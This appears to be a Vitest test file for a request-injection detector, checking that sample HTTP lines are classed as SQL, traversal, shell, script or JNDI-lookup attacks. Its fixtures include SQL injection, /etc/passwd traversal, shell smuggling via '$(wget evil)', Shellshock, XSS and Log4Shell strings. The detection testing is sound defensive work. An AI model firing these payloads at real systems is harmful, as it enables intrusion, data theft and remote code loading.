import { describe, expect, it } from 'vitest';
import { injectionIn } from '../../src/domain/injection.ts';

describe('a request', () => {
  it.each([
    ["GET /items?id=1'%20OR%20'1'='1 HTTP/1.1", 'sql'],
    ['GET /items?id=1+UNION+ALL+SELECT+password+FROM+users HTTP/1.1', 'sql'],
    ['GET /items?id=1/**/union/**/select/**/1 HTTP/1.1', 'sql'],
    ['GET /items?id=1%3B%20DROP%20TABLE%20users HTTP/1.1', 'sql'],
    ['GET /items?id=1 and 7=7 HTTP/1.1', 'sql'],
    ['GET /items?id=1-SLEEP(5) HTTP/1.1', 'sql'],
    ['GET /../../etc/passwd HTTP/1.1', 'traversal'],
    ['GET /%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1', 'traversal'],
    ['GET /%252e%252e%252f%252e%252e%252fx HTTP/1.1', 'traversal'],
    ['GET /x.php%00.png HTTP/1.1', 'traversal'],
    ['GET /ping?host=1.1.1.1;cat%20/x HTTP/1.1', 'shell'],
    ['GET /cgi?x=$(wget%20evil) HTTP/1.1', 'shell'],
    ['() { :; }; echo', 'shell'],
    ['GET /q=<script>alert(1)</script> HTTP/1.1', 'script'],
    ['GET /q=%22%20onerror%3Dalert(1) HTTP/1.1', 'script'],
    ['GET /?u=javascript:alert(1) HTTP/1.1', 'script'],
    ['\x24{jndi:ldap://evil/x}', 'lookup'],
    ['GET /?x=%24%7B%6Andi:ldap://evil/x%7D HTTP/1.1', 'lookup'],
    ['\x24{\x24{lower:j}ndi:x}', 'lookup'],
  ])('%s looks like %s', (request, kind) => {
    expect(injectionIn(request)).toBe(kind);
  });

  it.each([
    'GET / HTTP/1.1',
    'GET /docs/select-a-plan?from=union-square&or=1 HTTP/1.1',
    'POST /api/v1/collections/docs/points/search HTTP/1.1',
    'GET /search?q=rock+%26+roll+or+jazz HTTP/1.1',
    "GET /people/o'brien HTTP/1.1",
    'GET /a/../b HTTP/1.1',
    'GET /update?delete=false&insert=0 HTTP/1.1',
    'GET /img.svg?onload=1x HTTP/1.1'.replace('onload', 'download'),
    '"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"',
    '"-" "curl/8.5.0"',
    '"https://example.org/?a=1;b=2" "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"',
    '%zz%',
  ])('%s is an ordinary one', (request) => {
    expect(injectionIn(request)).toBeUndefined();
  });

  it('is looked at in little time, whatever stands in it', () => {
    const startedAt = performance.now();
    for (const piece of ["'", ' or ', 'union ', '<', '..%2f', '%25', ';', 'a on']) {
      for (let turn = 0; turn < 20; turn += 1) injectionIn(`GET /${piece.repeat(20_000)}`);
    }
    expect(performance.now() - startedAt).toBeLessThan(10_000);
  });
});
